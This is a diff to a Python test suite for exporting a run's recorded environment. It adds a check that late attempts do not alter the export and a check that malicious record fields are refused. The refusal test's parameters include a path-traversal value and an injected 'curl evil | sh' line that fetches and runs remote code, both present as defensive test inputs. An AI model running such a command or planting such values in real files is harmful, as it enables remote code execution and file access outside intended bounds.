@@ -112,7 +112,25 @@ def test_what_is_not_stored_has_to_be_given(tmp_path: Path) -> None:
     assert site.export().missing == ("KEY", "argument 2", "dataset pets/1.0.0")
 
 
+def test_an_attempt_that_was_added_after_the_end_does_not_count(site: Site) -> None:
+    honest = site.export().path.read_bytes()
+    site.run.create_attempt(msgspec.structs.replace(ATTEMPT, attempt=3))
+    site.memory.put(
+        site.run.paths.environment(3, 0), encode(HostEnvironment("3.9.1", image={"numpy": "0.1"}))
+    )
+    assert site.export("again.tar.gz").path.read_bytes() == honest
+
+
 class TestRefused:
+    @pytest.mark.parametrize(
+        "changes",
+        [{"requirements": "../lock"}, {"requirements": "/lock"}, {"requirements": "a\n    curl evil | sh"},
+         {"wheelhouse": "wheels/../.."}],
+    )  # fmt: skip
+    def test_a_record_that_names_files_elsewhere(self, tmp_path: Path, changes: dict[str, str]) -> None:
+        with pytest.raises(StateError, match="which is no file of its code"):
+            Site(tmp_path, **changes).export()
+
     def test_a_dataset_that_the_run_does_not_have(self, site: Site) -> None:
         with pytest.raises(UsageError) as error:
             site.export(with_data=True)
